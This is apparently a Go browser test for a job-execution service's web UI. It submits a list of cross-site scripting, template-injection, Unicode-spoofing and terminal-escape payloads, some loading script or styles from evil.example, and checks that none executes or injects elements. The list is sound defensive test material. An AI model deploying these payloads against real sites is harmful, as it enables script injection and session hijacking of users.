package browser

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostile is what an adversary writes wherever a text of his own is kept.
var hostile = []string{
	`<script>window.pwned=1</script>`, `<img src=x onerror="window.pwned=1">`, `<svg onload=window.pwned=1>`, `"><script src=//evil.example/x.js></script>`,
	`</pre></div><iframe src="javascript:parent.pwned=1"></iframe>`, `javascript:window.pwned=1`, `<a href="javascript:window.pwned=1">x</a>`,
	`<style>@import url(//evil.example/x.css)</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href=//evil.example/>`, `<form action=//evil.example><input name=x>`, `${window.pwned=1}`, `{{constructor.constructor('window.pwned=1')()}}`,
	"`+(window.pwned=1)+`", `__proto__`, `constructor`, `\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`, `%3Cscript%3E`, `&lt;script&gt;`, `<!--`, `]]>`,
	"\u202Eevil\u202C", "\u2066x\u2069", "zero\u200Bwidth", "\uFEFFbom", "a\u2028b", strings.Repeat("W", 3000), strings.Repeat("a\u0301\u0302\u0303", 200), "../../etc/passwd", "=1+1", "😀",
}

// escapes are what a program may write to take over a terminal.
var escapes = "\x1b]0;title\x07\x1b]8;;javascript:window.pwned=1\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[999;999H\x1b[?1049h\x1b[38;2;999;0;0mx\x1b[5mblink\x1b[8mhidden\x1b[0m\x9b31m\x90q\x9c\x00\x07\r\b\x7f"

// quoteShell quotes for a POSIX shell.
func quoteShell(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// What an adversary writes is text on every screen: it runs nothing, asks nobody, adds no element that templates do not have, and its
// marks that turn the direction of writing are seen.
func TestHostileText(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	var script strings.Builder
	var cases []map[string]any
	input := map[string]any{}
	for i, h := range hostile {
		fmt.Fprintf(&script, "printf '%%s\\n' %s\nprintf '%%s\\n' %s >&2\n", quoteShell(h), quoteShell(h))
		name := fmt.Sprintf("%d %.150s", i, strings.ToValidUTF8(strings.Map(func(r rune) rune {
			if r < ' ' {
				return -1
			}
			return r
		}, h[:min(len(h), 150)]), ""))
		cases = append(cases, map[string]any{"name": name, "stdin": h, "expect": "not " + h})
		input[fmt.Sprintf("%d%s", i, h)] = h
	}
	fmt.Fprintf(&script, "printf '%%b' %s\n", quoteShell(strings.ReplaceAll(fmt.Sprintf("%+q", escapes)[1:], `"`, "")))
	script.WriteString("mkdir -p d; echo x > 'd/<img src=x onerror=window.pwned=1>.txt'; echo '{\"<b>\": \"<script>window.pwned=1</script>\"}' > \"$PAWL_OUTPUT\"; exit 1\n")
	labels := map[string]string{}
	for i, h := range hostile[:10] {
		labels[fmt.Sprintf("l%d", i)] = h[:min(len(h), 60)]
	}
	all := map[string]string{}
	all["output"] = s.submit(t, "/api/v1/evaluations", map[string]any{"language": "bash", "source": script.String(), "labels": labels, "collect": []string{"d"}, "wait": "60s"})
	all["cases"] = s.submit(t, "/api/v1/evaluations", map[string]any{"language": "bash", "source": "cat; cat >&2 < /dev/null", "cases": cases, "labels": labels, "wait": "60s"})
	all["input"] = s.submit(t, "/api/v1/executions?wait=60s", map[string]any{"action": "noop", "input": input})
	all["odd"] = s.submit(t, "/api/v1/executions?wait=60s", map[string]any{"action": "noop", "input": map[string]any{"verdict": 1, "stdout": 5, "cases": []any{nil}, "files": 5}})
	description, err := json.Marshal(strings.Join(hostile, "\n"))
	if err != nil {
		t.Fatal(err)
	}
	s.call(t, http.MethodPost, "/api/v1/definitions", fmt.Sprintf(`{"name": "hostile", "description": %s, "input": {"type": "object", "properties": {"<img src=x onerror=window.pwned=1>": {"type": "string", "title": "<b>x</b>", "description": %s}}},
		"tasks": {"a": {"action": "noop", "with": {"x": %s}}, "b": {"needs": "a", "action": "code", "with": {"language": "bash", "source": "exit 9", "env": {"X": "<script>"}}}}}`, description, description, description))
	all["workflow"] = s.submit(t, "/api/v1/executions?wait=60s", `{"action": "hostile"}`)
	all["cancelled"] = s.submit(t, "/api/v1/executions", `{"action": "sleep", "input": {"for": "1h"}}`)
	s.call(t, http.MethodPost, "/api/v1/executions/"+all["cancelled"]+"/cancel?wait=20s", map[string]any{"reason": strings.Join(hostile[:20], " ")})

	tb := open(t, strings.TrimPrefix(s.url, "http://"))
	look := func(where string) {
		t.Helper()
		found := eval[[]string](tb, `[...document.querySelectorAll('script:not([src^="a/"]), iframe, object, embed, style, link:not([href^="a/"]), meta[http-equiv], base ~ base, form[action], img:not([src*="/ui/a/"]), [onerror], [onload], [style*="url"]')].map((e) => e.outerHTML.slice(0, 200))
			.concat(typeof window.pwned === 'undefined' ? [] : ['it ran']).concat([...document.querySelectorAll('a')].filter((a) => !/^https?:/.test(a.href)).map((a) => 'a link to ' + a.href))
			.concat(/[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u0000-\u0008\u001b]/.test(document.body.innerText) ? ['an invisible mark'] : [])`)
		for _, f := range found {
			t.Errorf("%s: %s", where, f)
		}
		tb.fits(where)
		tb.check(where)
	}
	for name, id := range all {
		for _, part := range []string{"why", "tasks", "result", "output", "logs", "history", "input"} {
			if part == "tasks" && name != "workflow" {
				continue
			}
			where := name + " " + part
			tb.do(where, chromedp.Navigate(s.url+"/ui/executions/"+id+"/"+part))
			tb.until(where+" has loaded", `!!document.querySelector('nav.tabs a[aria-current]') && !document.body.innerText.includes('Loading')`)
			if part == "history" {
				eval[any](tb, `document.querySelectorAll('details').forEach((d) => { d.open = true; })`)
			}
			if name == "cases" && part == "result" {
				tb.see("cases passed")
				eval[any](tb, `document.querySelectorAll('button.open-row')[0].click()`)
			}
			look(where)
		}
	}
	tb.do("the logs", chromedp.Navigate(s.url+"/ui/executions/"+all["output"]+"/logs"))
	tb.see("<svg onload=window.pwned=1>")
	tb.as("dark", 360)
	batch := url.QueryEscape("l0=" + hostile[0])
	for _, path := range []string{"executions/" + all["output"] + "/logs?find=" + url.QueryEscape("<"), "executions/" + all["output"] + "/logs?regexp=true&find=" + url.QueryEscape(`[<>\"'].*`), "executions/" + all["output"] + "/logs?find=" + url.QueryEscape(hostile[0]),
		"compare?a=" + all["output"] + "&b=" + all["cases"], "compare?show=input&a=" + all["output"] + "&b=" + all["cases"], "compare?show=output&a=" + all["output"] + "&b=" + all["input"], "compare?show=logs&a=" + all["output"] + "&b=" + all["cases"],
		"compare?a=" + all["odd"] + "&b=" + all["cases"], "compare?show=output&a=" + all["odd"] + "&b=" + all["odd"], "executions/" + all["odd"] + "/constructor",
		"compare?a=" + all["cases"], "compare?a=" + url.QueryEscape(hostile[1]), "batches", "batches?of=" + batch, "batches?rows=label:l1&of=" + batch, "batches?cols=label:l2&against=" + batch + "&of=" + batch, "batches?of=" + url.QueryEscape(hostile[1]),
		"executions/" + all["workflow"] + "/tasks?at=5", "executions/" + all["cancelled"] + "/history?at=3",
		"executions", "definitions/hostile", "definitions/hostile?task=a", "new?action=hostile", "new?from=" + all["input"], "work",
		"executions?label=" + url.QueryEscape(`l0=<script>window.pwned=1</script>`), "executions/" + url.PathEscape(`<img src=x onerror=window.pwned=1>`), url.PathEscape(`<script>window.pwned=1</script>`)} {
		tb.do(path, chromedp.Navigate(s.url+"/ui/"+path))
		tb.until(path+" has loaded", `!!document.querySelector('h1') && !document.body.innerText.includes('Loading')`)
		look(path)
	}
}
